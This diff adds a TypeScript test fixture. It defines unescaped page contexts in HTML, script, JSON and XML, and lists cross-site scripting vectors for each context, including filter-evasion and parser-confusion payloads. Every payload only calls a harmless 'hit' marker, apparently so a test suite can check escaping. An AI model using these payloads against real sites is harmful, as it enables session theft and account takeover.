@@ -1,0 +1,107 @@
+/** Reports that a script ran, to the window that holds the frame of the page. */
+const hit = 'parent.hit(self.name)';
+const inner = 'parent.parent.hit(parent.name)';
+const xhtml = 'xmlns:x="http://www.w3.org/1999/xhtml"';
+
+/** Where a vector ends up on a page that does not escape it. */
+export const holes = {
+  html: (vector: string) => `<!doctype html><body><style>@keyframes a{}</style><div>${vector}</div>`,
+  doubleQuoted: (vector: string) =>
+    `<!doctype html><style>@keyframes a{}</style><input type="image" value="${vector}">`,
+  singleQuoted: (vector: string) => `<!doctype html><img alt='${vector}'>`,
+  unquoted: (vector: string) => `<!doctype html><img alt=${vector}>`,
+  link: (vector: string) => `<!doctype html><a href="${vector}">x</a>`,
+  title: (vector: string) => `<!doctype html><title>${vector}</title>`,
+  textarea: (vector: string) => `<!doctype html><textarea>${vector}</textarea>`,
+  style: (vector: string) => `<!doctype html><style>${vector}</style>`,
+  noscript: (vector: string) => `<!doctype html><body><noscript>${vector}</noscript>`,
+  comment: (vector: string) => `<!doctype html><!-- ${vector} -->`,
+  script: (vector: string) => `<!doctype html><script>const q="${vector}"</script>`,
+  singleQuotedScript: (vector: string) => `<!doctype html><script>const q='${vector}'</script>`,
+  // As a program that escapes quotation marks and no backslashes writes it.
+  halfEscapedScript: (vector: string) =>
+    `<!doctype html><script>const q="${vector.replaceAll('"', '\\"')}"</script>`,
+  template: (vector: string) => `<!doctype html><script>const q=\`${vector}\`</script>`,
+  json: (vector: string) =>
+    `<!doctype html><script type="application/ld+json">{"name":${JSON.stringify(vector)}}</script>`,
+  xml: (vector: string) => `<rss><title>${vector}</title></rss>`,
+  cdata: (vector: string) => `<rss><title><![CDATA[${vector}]]></title></rss>`,
+  xmlAttribute: (vector: string) => `<rss><link href="${vector}"/></rss>`,
+} as const;
+export type Hole = keyof typeof holes;
+export const xmlHoles: readonly Hole[] = ['xml', 'cdata', 'xmlAttribute'];
+
+/** Texts that run a script where nothing escapes them, by the hole that each is for. Written for this corpus. */
+export const xssVectors: Readonly<Record<Hole, readonly string[]>> = {
+  html: [
+    `<script>${hit}</script>`,
+    `<SCRIPT>${hit}</SCRIPT >`,
+    `<script\t>${hit}</script\n>`,
+    `<script type=module>${hit}</script>`,
+    `<script src="data:,${hit}"></script>`,
+    `<script src=x: onerror=${hit}></script>`,
+    `<img src=x: onerror=${hit}>`,
+    `<IMG SRC=x: ONERROR=${hit}>`,
+    `<img/src="x:"/onerror=${hit}>`,
+    `<img src=x: onerror="&#112;arent.hit(self.name)">`,
+    `<img src=x: onerror=parent.hit&lpar;self.name&rpar;>`,
+    `<img src=x: onerror=${hit} <b>`,
+    `<image src=x: onerror=${hit}>`,
+    `<picture><img srcset=x: onerror=${hit}></picture>`,
+    `<input type=image src=x: onerror=${hit}>`,
+    `<audio src=x: onerror=${hit}></audio>`,
+    `<video><source src=x: onerror=${hit}></video>`,
+    `<link rel=stylesheet href=x: onerror=${hit}>`,
+    `<style onload=${hit}></style>`,
+    `<p style=animation:a onanimationstart=${hit}>x</p>`,
+    `<details open ontoggle=${hit}>x</details>`,
+    `<video src=x: onerror=${hit}></video>`,
+    `<body onpageshow=${hit}>`,
+    `<svg onload=${hit}>`,
+    `<svg/onload=${hit}>`,
+    `<svg><script>${hit}</script></svg>`,
+    `<svg><script>parent&#46;hit(self.name)</script></svg>`,
+    `<svg><style><img src=x: onerror=${hit}></style></svg>`,
+    `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
+    `<svg><set onbegin=${hit} attributeName=x to=0>`,
+    `<svg></p><style><a id="</style><img src=x: onerror=${hit}>">`,
+    `<math><mtext><img src=x: onerror=${hit}></mtext></math>`,
+    `<math><annotation-xml encoding=text/html><img src=x: onerror=${hit}></annotation-xml></math>`,
+    `<noscript><p title="</noscript><img src=x: onerror=${hit}>"></noscript>`,
+    `<iframe src="javascript:${inner}"></iframe>`,
+    `<iframe srcdoc="<script>${inner}</script>"></iframe>`,
+    `<iframe srcdoc="&lt;img src=x: onerror=${inner}&gt;"></iframe>`,
+    `<table><td><img src=x: onerror=${hit}></table>`,
+    `<a href="javascript:${hit}">x</a>`,
+    `<a href="JaVaScRiPt:${hit}">x</a>`,
+    `<a href="jav&#x09;ascript:${hit}">x</a>`,
+    `<a href="java\nscript:${hit}">x</a>`,
+    `<a href="&#1;javascript:${hit}">x</a>`,
+    `<a href="javascript&colon;${hit}">x</a>`,
+    `<a href="javascript://x/%0a${hit}">x</a>`,
+    `<svg><a xlink:href="javascript:${hit}"><text y=9>x</text></a></svg>`,
+    `<form action="javascript:${hit}"><button>x</button></form>`,
+    `<form><button formaction="javascript:${hit}">x</button></form>`,
+  ],
+  doubleQuoted: [
+    `"><script>${hit}</script>`,
+    `" src=x: onerror="${hit}`,
+    `" style="animation:a" onanimationstart="${hit}`,
+  ],
+  singleQuoted: [`'><script>${hit}</script>`, `' src='x:' onerror='${hit}`],
+  unquoted: [`x src=x: onerror=${hit}`, `><script>${hit}</script>`],
+  link: [`javascript:${hit}`, `\tjavascript:${hit}`, `javascript:void ${hit}//`],
+  title: [`</title><script>${hit}</script>`],
+  textarea: [`</textarea><script>${hit}</script>`],
+  style: [`</style><script>${hit}</script>`],
+  noscript: [`</noscript><script>${hit}</script>`],
+  comment: [`--><script>${hit}</script>`, `--!><script>${hit}</script>`],
+  script: [`"+${hit}+"`, `</script><script>${hit}</script>`],
+  singleQuotedScript: [`'+${hit}+'`],
+  halfEscapedScript: [`\\"+${hit}//`],
+  template: [`\${${hit}}`],
+  json: [`</script><script>${hit}</script>`, `</script ><img src=x: onerror=${hit}>`],
+  xml: [`<x:script ${xhtml}>${hit}</x:script>`, `</title><x:script ${xhtml}>${hit}</x:script><title>`],
+  cdata: [`]]><x:script ${xhtml}>${hit}</x:script><![CDATA[`],
+  xmlAttribute: [`"/><x:script ${xhtml}>${hit}</x:script><a b="`],
+};
